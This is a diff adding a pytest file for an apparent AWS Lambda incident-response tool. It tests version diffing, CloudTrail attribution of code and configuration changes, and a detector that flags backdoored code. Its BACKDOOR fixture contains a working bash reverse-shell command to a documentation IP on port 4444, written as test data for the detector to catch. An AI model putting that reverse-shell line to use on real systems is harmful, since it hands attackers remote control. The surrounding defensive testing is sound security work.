@@ -1,0 +1,189 @@
+"""`diff` between versions and the change detectors, attributed to CloudTrail."""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+from click.testing import CliRunner
+
+from lambda_ir.analyze.caseview import CaseView
+from lambda_ir.analyze.detectors import chg_code_change, chg_config_change
+from lambda_ir.analyze.diff import DiffError, diff_versions
+from lambda_ir.cli.main import cli
+from lambda_ir.evidence import Case
+from lambda_ir.model import Severity
+from tests.analyze.casebuild import (
+    ACCOUNT,
+    REGION,
+    CaseBuilder,
+    code_sha256,
+    function_config,
+    run_detector,
+    trail_event,
+    zip_bytes,
+)
+
+CLEAN = zip_bytes({"app.py": "def handler(e, c):\n    return 1\n", "lib/util.py": "X = 1\n"})
+BACKDOOR = zip_bytes(
+    {
+        "app.py": "import shell\ndef handler(e, c):\n    return 1\n",
+        "shell.py": "import os\nos.system('bash -i >& /dev/tcp/203.0.113.5/4444 0>&1')\n"
+        "password = 'hunter2hunter2'\n",
+    }
+)
+LAYER = "arn:aws:lambda:eu-west-1:999988887777:layer:x:1"
+
+
+def _build(builder: CaseBuilder) -> None:
+    builder.code(CLEAN, "orders", "1")
+    builder.code(BACKDOOR, "orders", "2")
+    builder.versions(
+        "orders",
+        [
+            function_config(
+                "orders",
+                "1",
+                code=CLEAN,
+                env={"DB_PASSWORD": "old-secret-1"},
+                LastModified="2026-11-01T10:00:00.000+0000",
+            ),
+            function_config(
+                "orders",
+                "2",
+                code=BACKDOOR,
+                env={"DB_PASSWORD": "new-secret-2"},
+                layers=[LAYER],
+                LastModified="2026-11-02T12:05:00.000+0000",
+            ),
+            function_config(
+                "orders",
+                "$LATEST",
+                code=BACKDOOR,
+                layers=[LAYER],
+                env={"DB_PASSWORD": "new-secret-2"},
+            ),
+        ],
+    )
+    builder.put(
+        f"raw/{ACCOUNT}/{REGION}/lambda/functions/orders/aliases.json",
+        {
+            "Aliases": [
+                {
+                    "AliasArn": f"arn:aws:lambda:{REGION}:{ACCOUNT}:function:orders:live",
+                    "Name": "live",
+                    "FunctionVersion": "2",
+                }
+            ]
+        },
+        "alias",
+        "lambda:ListAliases",
+        FunctionName="orders",
+    )
+    builder.trail(
+        [
+            trail_event(
+                "UpdateFunctionCode20150331v2",
+                {"functionName": "orders", "publish": True},
+                response={"codeSha256": code_sha256(BACKDOOR)},
+                event_id="code-1",
+                time="2026-11-02T12:00:00Z",
+                source_ip="203.0.113.66",
+            ),
+            trail_event(
+                "UpdateFunctionConfiguration20150331v2",
+                {"functionName": "orders", "layers": [LAYER]},
+                event_id="cfg-1",
+                time="2026-11-02T12:04:00Z",
+            ),
+        ]
+    )
+
+
+def test_diff_files_config_and_attribution(builder: CaseBuilder) -> None:
+    _build(builder)
+    result = diff_versions(CaseView(Case.open(builder.root)), "orders", "1", "live")
+    assert result.b.ref.qualifier == "2"
+    assert {(f.name, f.status) for f in result.files} == {
+        ("app.py", "changed"),
+        ("shell.py", "added"),
+        ("lib/util.py", "removed"),
+    }
+    shell = next(f for f in result.files if f.name == "shell.py")
+    assert "+os.system('bash -i" in shell.text_diff
+    assert "hunter2hunter2" not in shell.text_diff  # diffs are redacted
+    fields = {c.field: c for c in result.config}
+    assert "new-secret-2" not in fields["environment.DB_PASSWORD"].b
+    assert fields["layers"].b == LAYER
+    assert result.code_by is not None and result.code_by.event_id == "code-1"
+    assert result.code_by.actor.source_ip == "203.0.113.66"
+    assert result.config_by is not None and result.config_by.event_id == "cfg-1"
+
+
+def test_diff_unknown_qualifier(builder: CaseBuilder) -> None:
+    _build(builder)
+    view = CaseView(Case.open(builder.root))
+    with pytest.raises(DiffError, match="no collected version or alias '9'"):
+        diff_versions(view, "orders", "1", "9")
+    with pytest.raises(DiffError, match="not in the case"):
+        diff_versions(view, "nope", "1", "2")
+
+
+def test_diff_cli(builder: CaseBuilder) -> None:
+    _build(builder)
+    out = CliRunner().invoke(cli, ["diff", "--case", str(builder.root), "orders", "1", "2"])
+    assert out.exit_code == 0, out.output
+    assert "files: 1 added, 1 changed, 1 removed" in out.output
+    assert "uploaded by arn:aws:iam::111122223333:user/mallory from 203.0.113.66" in out.output
+    doc = json.loads(
+        CliRunner()
+        .invoke(cli, ["--json", "diff", "--case", str(builder.root), "orders", "1", "$LATEST"])
+        .stdout
+    )
+    assert doc["code_changed_by"]["event_id"] == "code-1"
+    bad = CliRunner().invoke(cli, ["diff", "--case", str(builder.root), "orders", "1", "7"])
+    assert bad.exit_code == 1
+
+
+def test_code_change_introducing_a_reverse_shell(builder: CaseBuilder) -> None:
+    _build(builder)
+    found = run_detector(builder, chg_code_change.DETECTOR)
+    assert [(f.details["from"], f.details["to"], f.details["file"]) for f in found] == [
+        ("1", "2", "shell.py")
+    ]
+    finding = found[0]
+    assert finding.severity is Severity.CRITICAL
+    assert finding.details["introduced"] == ["yara:LIR_Reverse_Shell"]
+    assert finding.actor is not None and finding.actor.source_ip == "203.0.113.66"
+    assert finding.evidence[0].member == "shell.py"
+    assert finding.evidence[-1].path.startswith("trail/")
+
+
+def test_code_change_quiet_when_threat_already_there_or_clean(builder: CaseBuilder) -> None:
+    other = zip_bytes({"app.py": "def handler(e, c):\n    return 2\n"})
+    builder.code(CLEAN, "calm", "1")
+    builder.code(other, "calm", "2")
+    builder.versions(
+        "calm", [function_config("calm", "1", code=CLEAN), function_config("calm", "2", code=other)]
+    )
+    assert run_detector(builder, chg_code_change.DETECTOR) == []
+
+
+def test_config_change_attributed(builder: CaseBuilder) -> None:
+    _build(builder)
+    found = run_detector(builder, chg_config_change.DETECTOR)
+    assert [(f.details["from"], f.details["to"]) for f in found] == [("1", "2")]
+    assert found[0].severity is Severity.MEDIUM  # a layer from another account
+    assert found[0].details["event_id"] == "cfg-1"
+    assert found[0].actor is not None and found[0].actor.arn.endswith("user/mallory")
+
+
+def test_config_change_quiet_without_code_loading_changes(builder: CaseBuilder) -> None:
+    builder.versions(
+        "calm",
+        [
+            function_config("calm", "1", env={"A": "1"}),
+            function_config("calm", "2", env={"A": "2"}),
+        ],
+    )
+    assert run_detector(builder, chg_config_change.DETECTOR) == []
